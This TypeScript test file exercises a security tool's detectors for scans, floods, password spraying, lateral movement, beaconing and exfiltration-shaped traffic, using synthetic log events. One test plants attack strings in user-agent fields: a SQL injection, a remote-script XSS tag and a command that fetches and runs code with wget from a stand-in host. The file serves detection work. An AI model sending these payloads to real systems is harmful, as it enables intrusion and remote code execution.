// Incidents planted differently from the generator's: small probe scans, slow sweeps, monitors that
// re-ping the same hosts, distributed floods, password spraying, guessing rotated through a /24.
import { afterEach, describe, expect, it } from 'vitest';
import { analyzeCase } from '../../../src/core/analysis';
import { network } from '../../../src/core/analysis/detectors/bruteForce';
import type { Finding } from '../../../src/shared/model';
import { cleanup, flowPopulation, makeCase, T0, webPopulation, type Ev } from './helpers';

afterEach(cleanup);

async function run(events: Ev[], settings: Record<string, number> = {}): Promise<Finding[]> {
  return (await analyzeCase(makeCase(events), { settings, inline: true })).findings;
}
const of = (fs: Finding[], detector: string): Finding[] => fs.filter((f) => f.detector === detector);
const H = 3_600_000;

const TOP_PORTS = [21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 3306, 3389, 5432, 5900, 5985, 6379, 8080, 8443, 9200, 27017, 11211, 2049, 111, 8000];

describe('portScan: a targeted scan of a few dozen ports', () => {
  it('flags 30 ports probed with bare SYNs on two hosts (medium, portScan.probePorts)', async () => {
    const scan: Ev[] = ['10.0.1.5', '10.0.1.6'].flatMap((h, k) => TOP_PORTS.map((p, i) => ({ ts: T0 + k * 9000 + i * 300, src_ip: '192.0.2.44', src_port: 50000 + i, dst_ip: h, dst_port: p, proto: 'TCP', flags: '....S.', packets: 1, bytes: 44 })));
    const f = of(await run([...flowPopulation(), ...scan]), 'portScan');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['192.0.2.44', 'medium']]);
    expect(f[0]!.threshold).toMatchObject({ value: 30, threshold: 20, setting: 'portScan.probePorts' });
    expect(f[0]!.explanation).toMatch(/20 ports when at least 80 % of the flows are unanswered probes/);
  });

  it('does not flag a client whose connections to 30 ports were completed sessions', async () => {
    const client: Ev[] = TOP_PORTS.map((p, i) => ({ ts: T0 + i * 60_000, src_ip: '10.0.2.200', src_port: 50000 + i, dst_ip: '10.0.1.5', dst_port: p, proto: 'TCP', flags: '.AP.SF', packets: 30, bytes: 9000 }));
    expect(of(await run([...flowPopulation(), ...client]), 'portScan')).toEqual([]);
  });
});

describe('hostScan: slow sweeps and monitors', () => {
  it('flags a sweep of 150 hosts on 445 spread over 10 hours (never 50 in one hour)', async () => {
    // from outside: the same sweep from an inside host is lateral movement reconnaissance (lateralRecon.test.ts)
    const sweep: Ev[] = Array.from({ length: 150 }, (_, i) => ({ ts: T0 + i * 240_000, src_ip: '192.0.2.77', src_port: 50000 + i, dst_ip: `10.0.9.${(i * 37) % 250}`, dst_port: 445, proto: 'TCP', flags: '....S.', packets: 1, bytes: 52 }));
    const f = of(await run([...flowPopulation(), ...sweep]), 'hostScan');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['192.0.2.77', 'medium']]);
    expect(f[0]!.threshold).toMatchObject({ value: 150, threshold: 100, setting: 'hostScan.spanHosts' });
    expect(f[0]!.explanation).toMatch(/150 distinct hosts on port 445 over 9 h/);
  });

  it('counts ICMP flows whose flags are a flow tool\'s placeholders ("......") as echo requests', async () => {
    const sweep: Ev[] = Array.from({ length: 120 }, (_, h) => ({ ts: T0 + h * 100, src_ip: '10.0.2.251', dst_ip: `10.0.3.${h}`, proto: 'ICMP', flags: '......', packets: 1, bytes: 60 }));
    const replies: Ev[] = Array.from({ length: 120 }, (_, h) => ({ ts: T0 + h * 100, src_ip: '10.0.2.252', dst_ip: `10.0.4.${h}`, proto: 'ICMP', flags: '0.0', packets: 1, bytes: 60 }));
    const f = of(await run([...flowPopulation(), ...sweep, ...replies]), 'hostScan');
    expect(f.map((x) => x.entity)).toEqual(['10.0.2.251']);
  });

  it('reports a monitor that pings the same 60 hosts every minute for three hours low, not as a sweep', async () => {
    const mon: Ev[] = [];
    for (let m = 0; m < 180; m++) for (let h = 0; h < 60; h++) mon.push({ ts: T0 + m * 60_000 + h * 50, src_ip: '10.0.2.5', dst_ip: `10.0.1.${h + 10}`, proto: 'ICMP', packets: 1, bytes: 84 });
    const f = of(await run([...flowPopulation(), ...mon]), 'hostScan');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.2.5', 'low']]);
    expect(f[0]!.title).toMatch(/^Repeated probes/);
    expect(f[0]!.explanation).toMatch(/each host 180 times on average \(hostScan.pollRepeat: 10\)/);
  });
});

describe('bursts: a distributed flood', () => {
  const burst = (ip: string, at: number): Ev[] => Array.from({ length: 150 }, (_, i) => ({ ts: at + i * 200, src_ip: ip, method: 'GET', path: `/search?q=${i}`, status: 200, bytes: 900 }));

  it('reports 15 sources bursting in the same minutes as one finding that names them', async () => {
    const flood = Array.from({ length: 15 }, (_, s) => burst(`198.51.100.${s + 1}`, T0 + 2 * H + s * 20_000)).flat();
    const f = of(await run([...webPopulation(60), ...flood]), 'bursts');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ entity: '15 sources', entityType: 'population' });
    expect(f[0]!.numbers.sourceCount).toBe(15);
    expect(f[0]!.threshold).toMatchObject({ setting: 'bursts.floodSources', threshold: 10, value: 15 });
    expect(f[0]!.explanation).toMatch(/the busiest (198\.51\.100\.\d+, ){5}198\.51\.100\.\d+ and 9 more\./);
  });

  it('keeps one finding per source when the bursts are hours apart', async () => {
    const apart = Array.from({ length: 12 }, (_, s) => burst(`198.51.100.${s + 1}`, T0 + s * 20 * 60_000)).flat();
    const f = of(await run([...webPopulation(60), ...apart]), 'bursts');
    expect(f.map((x) => x.entityType)).toEqual(Array(12).fill('ip'));
  });
});

describe('bruteForce: spraying and rotating addresses', () => {
  const fail = (ip: string, user: string, i: number): Ev => ({ ts: T0 + i * 60_000, src_ip: ip, program: 'sshd', action: 'auth_failure', user });

  it('calls one guess on each of 15 accounts password spraying', async () => {
    const spray = Array.from({ length: 15 }, (_, i) => fail('203.0.113.9', `user${i}`, i));
    const f = of(await run(spray), 'bruteForce');
    expect(f).toHaveLength(1);
    expect(f[0]!.title).toBe('SSH password spraying from 203.0.113.9: 15 user names, 15 failed logins');
    expect(f[0]!.explanation).toMatch(/1\.0 tries per user name: password spraying/);
  });

  it('calls 15 guesses on one account brute force, not spraying', async () => {
    const f = of(await run(Array.from({ length: 15 }, (_, i) => fail('203.0.113.9', 'root', i))), 'bruteForce');
    expect(f[0]!.title).toBe('SSH brute force from 203.0.113.9: 15 failed logins');
  });

  it('reports four addresses of one /24, each under the threshold, as one finding for the network', async () => {
    const rot = [11, 37, 102, 201].flatMap((last, k) => Array.from({ length: 4 }, (_, i) => fail(`198.51.100.${last}`, 'root', k * 10 + i)));
    const f = of(await run(rot), 'bruteForce');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['198.51.100.0/24', 'medium']]);
    expect(f[0]!.numbers).toMatchObject({ failures: 16, sourceCount: 4 });
  });

  it('does not add up addresses from different networks, or users who mostly log in', async () => {
    const spread = [1, 2, 3, 4].flatMap((n, k) => Array.from({ length: 4 }, (_, i) => fail(`198.51.${n}.10`, 'root', k * 10 + i)));
    // office users in one /24 who mistype now and then
    const office = [10, 11, 12, 13].flatMap((n, k) => [fail(`10.1.1.${n}`, `u${n}`, k), fail(`10.1.1.${n}`, `u${n}`, k + 1), ...Array.from({ length: 5 }, (_, i) => ({ ts: T0 + (k + i) * 70_000, src_ip: `10.1.1.${n}`, program: 'sshd', action: 'auth_success', user: `u${n}` }))]);
    // an inside /24 the morning after a password change: each machine fails on its own user, never logs in
    const changed = [20, 21, 22, 23, 24].flatMap((n, k) => Array.from({ length: 3 }, (_, i) => fail(`10.1.2.${n}`, `u${n}`, k * 5 + i)));
    expect(of(await run([...spread, ...office, ...changed]), 'bruteForce')).toEqual([]);
  });

  it('names the /24 or /64 of an address', () => {
    expect(network('198.51.100.7')).toBe('198.51.100.0/24');
    expect(network('2001:db8:1:2:3:4:5:6')).toBe('2001:db8:1:2::/64');
    expect(network('2001:db8::1')).toBe('2001:db8:0:0::/64');
    expect(network('not-an-ip')).toBeNull();
  });
});

describe('lateralMovement', () => {
  const spread = (src: string, hosts: number, ports: number[], times = 1): Ev[] => {
    const out: Ev[] = [];
    for (let t = 0; t < times; t++)
      for (let h = 0; h < hosts; h++)
        for (const p of ports) out.push({ ts: T0 + t * 30 * 60_000 + h * 60_000, src_ip: src, src_port: 50000 + h, dst_ip: `10.0.5.${h + 10}`, dst_port: p, proto: 'TCP', flags: h % 2 ? '.AP.SF' : '....S.', packets: h % 2 ? 30 : 1, bytes: h % 2 ? 9000 : 44 });
    return out;
  };

  it('flags a workstation reaching 20 machines on SMB, RDP and WinRM (high), and one service only as medium', async () => {
    const f = of(await run([...flowPopulation(), ...spread('10.0.2.88', 20, [445, 3389, 5985]), ...spread('10.0.2.89', 12, [445])]), 'lateralMovement');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.2.88', 'high'], ['10.0.2.89', 'medium']]);
    expect(f[0]!.title).toBe('Lateral movement from 10.0.2.88: 20 hosts on SMB, RDP, WinRM');
    expect(f[0]!.threshold).toMatchObject({ value: 20, threshold: 10, setting: 'lateralMovement.minHosts' });
  });

  it('keeps RPC with SMB alone (the inventory-server shape) medium, and high once RDP is added', async () => {
    const f = of(await run([...flowPopulation(), ...spread('10.0.2.90', 30, [135, 445]), ...spread('10.0.2.91', 30, [135, 445, 3389])]), 'lateralMovement');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.2.91', 'high'], ['10.0.2.90', 'medium']]);
    expect(f[1]!.explanation).toContain('inventory and management servers');
  });

  it('does not flag a deployment server visiting the same 40 hosts over SSH every half hour, or an outside source', async () => {
    const f = of(await run([...flowPopulation(), ...spread('10.0.2.7', 40, [22], 12), ...spread('198.51.100.20', 20, [445, 3389])]), 'lateralMovement');
    expect(f).toEqual([]);
  });
});

describe('bursts: a flood spread thinly over many sources', () => {
  /** Three hours of ordinary flows: 40 clients, a flow every few seconds between them. */
  const steady = (): Ev[] =>
    Array.from({ length: 3 * 60 * 40 }, (_, i) => ({ ts: T0 + Math.floor(i / 40) * 60_000 + (i % 40) * 1000, src_ip: `10.0.2.${i % 40}`, src_port: 40000 + (i % 20000), dst_ip: '10.0.1.1', dst_port: 443, proto: 'TCP', flags: '.AP.SF', packets: 12, bytes: 4000 }));

  it('reports 300 sources sending 20 SYNs a minute each, all in the same two minutes, as one surge', async () => {
    const flood: Ev[] = [];
    for (let s = 0; s < 300; s++) for (let k = 0; k < 40; k++) flood.push({ ts: T0 + 90 * 60_000 + k * 3000 + s, src_ip: `203.0.${s >> 8}.${s & 255}`, src_port: 1024 + k, dst_ip: '10.0.1.80', dst_port: 80, proto: 'TCP', flags: '....S.', packets: 1, bytes: 40 });
    const f = of(await run([...steady(), ...flood]), 'bursts');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ entityType: 'population', severity: 'high' });
    // the flood's target is named (each of the two workers saw half the sources)
    expect(f[0]!.title).toMatch(/^Distributed surge at 10\.0\.1\.80:80: 6,040 events in one minute from 340 sources \(usually 40 from 40\)/);
    expect(f[0]!.explanation).toMatch(/of those [\d,]+ events went to 10\.0\.1\.80:80: the target/);
    expect(f[0]!.numbers.target).toBe('10.0.1.80:80');
    expect(f[0]!.threshold).toMatchObject({ setting: 'bursts.surgeFactor', threshold: 400 });
  });

  it('does not report the working day after a long quiet night as a surge', async () => {
    // 16 quiet hours (one source, one event a minute), then 8 hours of 100 clients
    const night: Ev[] = Array.from({ length: 16 * 60 }, (_, m) => ({ ts: T0 + m * 60_000, src_ip: '10.0.2.250', src_port: 40000, dst_ip: '10.0.1.1', dst_port: 443, proto: 'TCP', flags: '.AP.SF', packets: 12, bytes: 4000 }));
    const day: Ev[] = Array.from({ length: 8 * 60 * 100 }, (_, i) => ({ ts: T0 + 16 * H + Math.floor(i / 100) * 60_000 + (i % 100) * 500, src_ip: `10.0.${3 + (i % 100 >> 7)}.${i % 100}`, src_port: 40000 + (i % 20000), dst_ip: '10.0.1.1', dst_port: 443, proto: 'TCP', flags: '.AP.SF', packets: 12, bytes: 4000 }));
    expect(of(await run([...night, ...day]), 'bursts')).toEqual([]);
  });

  it('does not report a busy hour at three times the usual load from the usual clients', async () => {
    const busy = steady().flatMap((e) => (e.ts! >= T0 + 60 * 60_000 && e.ts! < T0 + 120 * 60_000 ? [e, { ...e, ts: e.ts! + 300 }, { ...e, ts: e.ts! + 600 }] : [e]));
    expect(of(await run(busy), 'bursts')).toEqual([]);
  });
});

describe('webAttacks: payloads in the user agent', () => {
  it('finds SQL injection, blind XSS and command injection sent as the user agent, and leaves browsers alone', async () => {
    const req = (ip: string, ua: string): Ev => ({ ts: T0, src_ip: ip, method: 'GET', path: '/', status: 200, bytes: 500, user_agent: ua });
    const f = of(
      await run([
        ...webPopulation(20),
        req('192.0.2.1', "Mozilla/5.0' AND SLEEP(5)-- -"),
        req('192.0.2.2', '<script src=//x.example/a.js></script>'),
        req('192.0.2.3', 'Mozilla/5.0 `wget http://192.0.2.9/x -O- | sh`'),
        req('192.0.2.4', 'Mozilla/5.0 (Linux; Android 14; SM-S918B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/466.0.0.53.73;]'),
        req('192.0.2.5', `Mozilla/5.0 ${"'<".repeat(500_000)}`),
      ]),
      'webAttacks',
    );
    expect(f.map((x) => [x.entity, x.numbers.kinds]).sort()).toEqual([['192.0.2.1', 'sqli'], ['192.0.2.2', 'xss'], ['192.0.2.3', 'cmdi']]);
  });
});

describe('heavyTraffic: a gateway is not an exfiltration', () => {
  const up = (src: string, dsts: string[], each: number, n: number): Ev[] =>
    Array.from({ length: n }, (_, i) => ({ ts: T0 + i * 30_000, src_ip: src, src_port: 40000 + (i % 20000), dst_ip: dsts[i % dsts.length]!, dst_port: 443, proto: 'TCP', flags: '.AP.SF', packets: 900, bytes: each, duration: 20 }));

  it('keeps 1.5 GB sent to three cloud addresses high (no single destination has 80 %)', async () => {
    const f = of(await run([...flowPopulation(), ...up('10.0.2.33', ['52.95.110.1', '52.95.110.2', '52.95.110.3'], 50_000_000, 30)]), 'heavyTraffic');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.2.33', 'high']]);
    expect(f[0]!.explanation).toMatch(/shape of data exfiltration/);
  });

  it('reports 2 GB spread thinly over 200 outside destinations medium, as a gateway', async () => {
    const dsts = Array.from({ length: 200 }, (_, i) => `198.51.${100 + (i >> 8)}.${i & 255}`);
    const f = of(await run([...flowPopulation(), ...up('10.0.2.1', dsts, 5_000_000, 400)]), 'heavyTraffic');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.2.1', 'medium']]);
    expect(f[0]!.explanation).toMatch(/went to 200 external destinations, the five largest taking only 2 %/);
  });
});

describe('bruteForce: a slow guesser in flow data', () => {
  const tries = (src: string, n: number, everyMs: number, packets: number): Ev[] =>
    Array.from({ length: n }, (_, i) => ({ ts: T0 + i * everyMs, src_ip: src, src_port: 40000 + (i % 20000), dst_ip: '10.0.1.22', dst_port: 22, proto: 'TCP', flags: '.AP.SF', packets, bytes: packets * 120, duration: 2.5 }));

  it('flags an outside source trying SSH once a minute for six hours (never 200 in an hour)', async () => {
    const f = of(await run([...flowPopulation(), ...tries('203.0.113.50', 360, 60_000, 16)]), 'bruteForce');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['203.0.113.50', 'medium']]);
    expect(f[0]!.title).toMatch(/^Slow SSH brute force from 203\.0\.113\.50: 360 short connections over 5 h 59 min to port 22/);
    expect(f[0]!.threshold).toMatchObject({ setting: 'bruteForce.slowFlows', value: 360, threshold: 300 });
  });

  it('leaves an outside port check (4 packets a minute) and an inside scheduler (16 packets a minute) alone', async () => {
    const f = of(await run([...flowPopulation(), ...tries('203.0.113.51', 360, 60_000, 4), ...tries('10.0.2.60', 360, 60_000, 16)]), 'bruteForce');
    expect(f).toEqual([]);
  });
});

describe('beaconing: a scheduled transfer is not a check-in', () => {
  const timer = (src: string, dst: string, each: number): Ev[] =>
    Array.from({ length: 48 }, (_, i) => ({ ts: T0 + i * 600_000 + (i % 3) * 2000, src_ip: src, src_port: 40000 + i, dst_ip: dst, dst_port: 443, proto: 'TCP', flags: '.AP.SF', packets: 20, bytes: each, duration: 1 }));

  it('keeps a small check-in every 10 minutes for 8 hours high, and a 20 MB upload on the same timer medium', async () => {
    const f = of(await run([...flowPopulation(), ...timer('10.0.2.45', '198.51.100.7', 1800), ...timer('10.0.2.80', '151.101.1.1', 20_000_000)]), 'beaconing');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.2.45 -> 198.51.100.7:443', 'high'], ['10.0.2.80 -> 151.101.1.1:443', 'medium']]);
    expect(f[1]!.explanation).toMatch(/Each contact carried 19\.1 MiB on average \(beaconing\.bulkBytes: 977 KiB\): a check-in needs a few kilobytes/);
  });
});

describe('beaconing: wide jitter and missed check-ins', () => {
  let x = 99;
  const rnd = (): number => (x = (x * 1103515245 + 12345) % 2147483648) / 2147483648;

  it('finds an hourly beacon with ±30 % jitter that misses a fifth of its check-ins over 34 hours', async () => {
    // gaps in hours, as planted: a quarter of the single beats sit 25-30 % below the period
    const gaps = [0.75, 0.81, 1.23, 2.14, 2.24, 1.2, 1.93, 1.19, 0.71, 1.04, 0.97, 2.86, 0.72, 1.17, 0.72, 1.08, 1.02, 1.05, 1.24, 0.71, 1.24, 2.09, 0.79, 1.19, 0.71, 0.9, 0.7, 0.92];
    let t = T0;
    const beacon: Ev[] = [0, ...gaps].map((g, i) => ({ ts: Math.round((t += g * 3_600_000)), src_ip: '10.0.2.90', src_port: 50000 + i, dst_ip: '198.18.7.9', dst_port: 443, proto: 'TCP', bytes: 700 }));
    const f = of(await run([...flowPopulation(), ...beacon]), 'beaconing');
    expect(f.map((b) => b.entity)).toEqual(['10.0.2.90 -> 198.18.7.9:443']);
  });

  it('does not take random (Poisson) visits averaging one an hour for a beacon', async () => {
    x = 5;
    const visits: Ev[] = [];
    for (let t = T0, i = 0; t < T0 + 34 * H; t += -3_600_000 * Math.log(1 - rnd()), i++) visits.push({ ts: Math.round(t), src_ip: '10.0.2.91', src_port: 50000 + i, dst_ip: '198.18.7.10', dst_port: 443, proto: 'TCP', bytes: 700 });
    expect(of(await run([...flowPopulation(), ...visits]), 'beaconing')).toEqual([]);
  });
});

describe('UDP scans, sweeps on admin ports, and pages that poll', () => {
  it('flags 28 UDP ports probed with lone datagrams, not a client sending DNS and NTP', async () => {
    const udp = [53, 67, 69, 111, 123, 137, 138, 161, 162, 500, 514, 520, 623, 1434, 1900, 2049, 4500, 5060, 5353, 11211, 1194, 1701, 17185, 27015, 47808, 5683, 3478, 10001];
    const scan: Ev[] = udp.map((p, i) => ({ ts: T0 + i * 4000, src_ip: '192.0.2.52', src_port: 61000, dst_ip: '10.0.1.21', dst_port: p, proto: 'UDP', flags: '......', packets: 1, bytes: 60 }));
    const client: Ev[] = Array.from({ length: 200 }, (_, i) => ({ ts: T0 + i * 9000, src_ip: '10.0.2.61', src_port: 40000 + i, dst_ip: '10.0.1.2', dst_port: i % 2 ? 53 : 123, proto: 'UDP', packets: 1, bytes: 70 }));
    const f = of(await run([...flowPopulation(), ...scan, ...client]), 'portScan');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['192.0.2.52', 'medium']]);
    expect(f[0]!.explanation).toMatch(/lone UDP datagrams/);
  });

  it('reports an inside 200-host SYN sweep on 445 once, as lateral movement reconnaissance (not also a host scan), and keeps 14 WinRM sessions as lateral movement', async () => {
    const sweep: Ev[] = Array.from({ length: 200 }, (_, i) => ({ ts: T0 + i * 5000, src_ip: '10.0.2.78', src_port: 50000 + i, dst_ip: `10.0.9.${i + 1}`, dst_port: 445, proto: 'TCP', flags: '....S.', packets: 2, bytes: 104 }));
    const winrm: Ev[] = Array.from({ length: 14 }, (_, i) => ({ ts: T0 + i * 200_000, src_ip: '10.0.2.79', src_port: 50000 + i, dst_ip: `10.0.5.${i + 20}`, dst_port: 5985, proto: 'TCP', flags: '.AP.SF', packets: 40, bytes: 9000 }));
    const fs = await run([...flowPopulation(), ...sweep, ...winrm]);
    expect(of(fs, 'lateralMovement').map((x) => [x.entity, x.title.startsWith('Lateral movement reconnaissance')]).sort()).toEqual([['10.0.2.78', true], ['10.0.2.79', false]]);
    expect(of(fs, 'hostScan')).toEqual([]);
  });

  it('reports six visitors\' tabs polling one URL as one finding, and an implant polling alone on its own', async () => {
    const poll = (ip: string, path: string, every: number, n: number): Ev[] => Array.from({ length: n }, (_, i) => ({ ts: T0 + i * every + (i % 3) * 200, src_ip: ip, method: 'GET', path, status: 200, bytes: 40, user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0' }));
    const tabs = [1, 2, 3, 4, 5, 6].flatMap((n) => poll(`198.51.100.${n}`, '/api/notifications/count', 30_000 + n * 7, 300));
    const f = of(await run([...webPopulation(20), ...tabs, ...poll('203.0.113.200', '/images/logo.gif', 120_000, 80)]), 'beaconing');
    expect(f.map((x) => [x.entity, x.severity]).sort()).toEqual([['203.0.113.200 -> /images/logo.gif', 'low'], ['6 sources -> /api/notifications/count', 'low']]);
    expect(f.find((x) => x.entity.startsWith('6'))!.numbers.sourceCount).toBe(6);
  });
});

describe('firewall logs that record a connection twice (Cisco ASA Built + Teardown)', () => {
  /** An implant calling out every 5 min for 8 h through an ASA: each call a Built line, and 2 s later a Teardown with the bytes. */
  const asaBeacon = (withTeardowns: boolean): Ev[] =>
    Array.from({ length: 96 }, (_, i) => {
      const ts = T0 + i * 300_000 + ((i * 37) % 11) * 1000;
      const conn: Ev = { ts, src_ip: '10.0.2.50', src_port: 50000 + i, dst_ip: '203.0.113.80', dst_port: 443, proto: 'TCP', action: 'accept', program: '%ASA-6-302013' };
      return withTeardowns ? [conn, { ...conn, ts: ts + 2000, action: 'close', bytes: 5200, duration: 2, program: '%ASA-6-302014' }] : [conn];
    }).flat();

  it('counts connections and times beacons by the Built lines, not their teardowns', async () => {
    const [both, builds] = [await run([...flowPopulation(), ...asaBeacon(true)]), await run([...flowPopulation(), ...asaBeacon(false)])];
    const b = of(both, 'beaconing').find((f) => f.entity.startsWith('10.0.2.50'));
    expect(b).toBeDefined();
    expect(b!.numbers).toMatchObject(of(builds, 'beaconing').find((f) => f.entity.startsWith('10.0.2.50'))!.numbers);
    // a teardown 2 s after each call is no second contact: no burst, no doubled flow count
    expect(of(both, 'bursts').filter((f) => f.entity === '10.0.2.50')).toEqual([]);
    expect(b!.numbers).toMatchObject({ contacts: 96 });
    // a workstation reaching 12 machines over SMB once each is 12 connections, not 24
    const hop: Ev[] = Array.from({ length: 12 }, (_, h) => {
      const conn: Ev = { ts: T0 + h * 60_000, src_ip: '10.0.2.60', src_port: 51000 + h, dst_ip: `10.0.5.${h + 10}`, dst_port: 445, proto: 'TCP', action: 'accept', program: '%ASA-6-302013' };
      return [conn, { ...conn, ts: conn.ts! + 4000, action: 'close', bytes: 48_000, duration: 4, program: '%ASA-6-302014' }];
    }).flat();
    const lm = of(await run([...flowPopulation(), ...hop]), 'lateralMovement');
    expect(lm.map((f) => [f.entity, f.numbers.flows, f.numbers.contactsPerHost])).toEqual([['10.0.2.60', 12, 1]]);
    expect(Number(b!.numbers.periodMs)).toBeGreaterThan(290_000);
  });
});
